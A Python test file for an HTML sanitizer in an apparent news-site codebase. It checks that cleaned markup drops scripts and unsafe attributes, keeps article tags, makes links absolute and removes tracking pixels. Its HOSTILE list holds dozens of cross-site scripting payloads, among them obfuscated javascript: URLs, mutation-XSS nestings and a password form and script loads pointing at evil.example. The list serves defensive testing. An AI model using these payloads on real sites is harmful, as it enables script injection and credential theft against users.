"""HTML from elsewhere is harmless after cleaning."""

from __future__ import annotations

import html
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from articles.addresses import absolute_url
from articles.sanitizing import ATTRIBUTES, TAGS, clean_html, images_of, plain_text, without_image

BASE = "https://news.example/2026/story"
ALLOWED = {tag: names | ({"rel"} if tag == "a" else set()) for tag, names in ATTRIBUTES.items()}

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" \x01java\x03script:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="feed:javascript:alert(1)">x</a>',
    '<a href="//evil.example\\@news.example">x</a>',
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    '<form action="//evil.example"><input name=password><button>x',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<base href="javascript:/a/-alert(1)///////">',
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import 'javascript:alert(1)';</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<p class=x id=y onclick=alert(1)>x</p>",
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<img srcset="//evil.example 1x" src="javascript:alert(1)">',
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<p title='<img src=x onerror=alert(1)>'>x",
    '<img alt="`><script>alert(1)</script>" src="a.png">',
    "<a href='x' title='\"><script>alert(1)</script>'>x</a>",
    "<isindex action=javascript:alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<<script>alert(1);//<</script>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<div><p>" * 3000,
    "<b <script>alert(1)</script>0",
    "<a\u2028href=javascript:alert(1)>x",
]


class Watcher(HTMLParser):
    """Reports what our allow-list does not allow."""

    def __init__(self) -> None:
        super().__init__()
        self.findings: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.findings.append(f"<{tag}>")
        for name, value in attributes:
            if name not in ALLOWED.get(tag, set()) | ALLOWED["*"]:
                self.findings.append(f"<{tag} {name}>")
            if name in {"href", "src", "cite"} and not (value or "").lower().startswith(
                ("http://", "https://", "mailto:")
            ):
                self.findings.append(f"{name}={value}")

    def handle_comment(self, data: str) -> None:
        self.findings.append("a comment")

    def handle_decl(self, decl: str) -> None:
        self.findings.append("a declaration")

    def unknown_decl(self, data: str) -> None:
        self.findings.append("a declaration")

    def handle_pi(self, data: str) -> None:
        self.findings.append("an instruction")


def findings(cleaned: str) -> list[str]:
    watcher = Watcher()
    watcher.feed(cleaned)
    watcher.close()
    return watcher.findings


@pytest.mark.parametrize("attack", HOSTILE)
def test_hostile_html_is_harmless(attack: str) -> None:
    cleaned = clean_html(f"<p>before</p>{attack}", BASE)

    assert findings(cleaned) == []
    assert cleaned.startswith("<p>before</p>")
    assert clean_html(cleaned, BASE) == cleaned


PIECES = [
    *HOSTILE[:46],
    "<p>",
    "</p>",
    "<a href='/x'>",
    "</a>",
    "<table>",
    "<td>",
    "text",
    "&lt;",
    "<img src=a.png alt='",
    "'>",
    '"',
    "<svg>",
    "</svg>",
    "<math>",
    "<style>",
    "\x00",
]


@given(st.lists(st.sampled_from(PIECES) | st.text(max_size=8), max_size=8).map("".join))
def test_any_mixture_is_harmless_and_cleaning_twice_changes_nothing(text: str) -> None:
    cleaned = clean_html(text, BASE)

    assert findings(cleaned) == []
    assert clean_html(cleaned, BASE) == clean_html(cleaned, "") == cleaned


@given(st.lists(st.sampled_from(PIECES) | st.text(max_size=8), max_size=8).map("".join))
def test_plain_text_of_an_escaped_text_is_the_text(text: str) -> None:
    plain = plain_text(text)

    assert plain == " ".join(plain.split())
    assert plain_text(html.escape(plain)) == plain


def test_what_an_article_needs_stays() -> None:
    body = (
        "<h2>Head</h2><p>A <b>b</b> <em>c</em><br>d</p><blockquote>q</blockquote><ul><li>1</li></ul>"
        '<figure><img src="https://cdn.example/a.jpg" alt="A ferry" width="600" height="400">'
        "<figcaption>c</figcaption></figure>"
        '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>'
    )

    assert clean_html(body) == body


def test_links_are_absolute_and_carry_rel() -> None:
    assert clean_html('<a href="../b?x=1&y=2" target=_blank class=z>b</a>', BASE) == (
        '<a href="https://news.example/b?x=1&amp;y=2" rel="noopener nofollow">b</a>'
    )


def test_relative_address_without_a_base_is_dropped() -> None:
    assert clean_html('<a href="/b">b</a><img src="a.png" alt="a">') == '<a rel="noopener nofollow">b</a>'


@pytest.mark.parametrize("size", ['width="1" height="1"', 'width="0"', "height=1"])
def test_tracking_pixel_is_removed(size: str) -> None:
    assert clean_html(f'<p>x<img src="https://t.example/p.gif" {size}></p>') == "<p>x</p>"


@pytest.mark.parametrize(
    ("url", "absolute"),
    [
        ("/a b", "https://news.example/a%20b"),
        ("//cdn.example/a", "https://cdn.example/a"),
        ("HTTPS://cdn.example/ä", "HTTPS://cdn.example/ä"),
        ("https:cdn.example", ""),
        ("https://", ""),
        ("https://[::1", ""),
        ("mailto:editor@news.example", ""),
        ("javascript://news.example/%0aalert(1)", ""),
        ("https://cdn.example/" + "a" * 2000, ""),
        ("", ""),
    ],
)
def test_absolute_address(url: str, absolute: str) -> None:
    assert absolute_url(url, BASE) == absolute


def test_mail_link_stays_a_link() -> None:
    assert 'href="mailto:editor@news.example"' in clean_html('<a href="mailto:editor@news.example">write</a>')


def test_plain_text_has_spaces_between_blocks_and_none_inside_words() -> None:
    assert plain_text("<p>One</p><p>t<b>w</b>o<br>AT&amp;T &lt;b&gt;</p><script>x</script>") == "One two AT&T <b>"


def test_direction_overrides_and_control_characters_are_removed() -> None:
    assert plain_text("a\u202eb\u2066c\x00d\x08e\ud800f") == "abcdef"


def test_picture_is_found_and_taken_out() -> None:
    cleaned = clean_html('<p><a href="/x"><img src="a.jpg" alt="A &quot;b&quot; > c"></a></p><p>t</p>', BASE)

    (image,) = images_of(cleaned)
    assert image == {"src": "https://news.example/2026/a.jpg", "alt": 'A "b" > c'}
    assert without_image(cleaned, image["src"]) == "<p>t</p>"


def test_very_long_text_is_cut() -> None:
    assert len(clean_html("<p>" + "x" * 3_000_000)) < 1_100_000
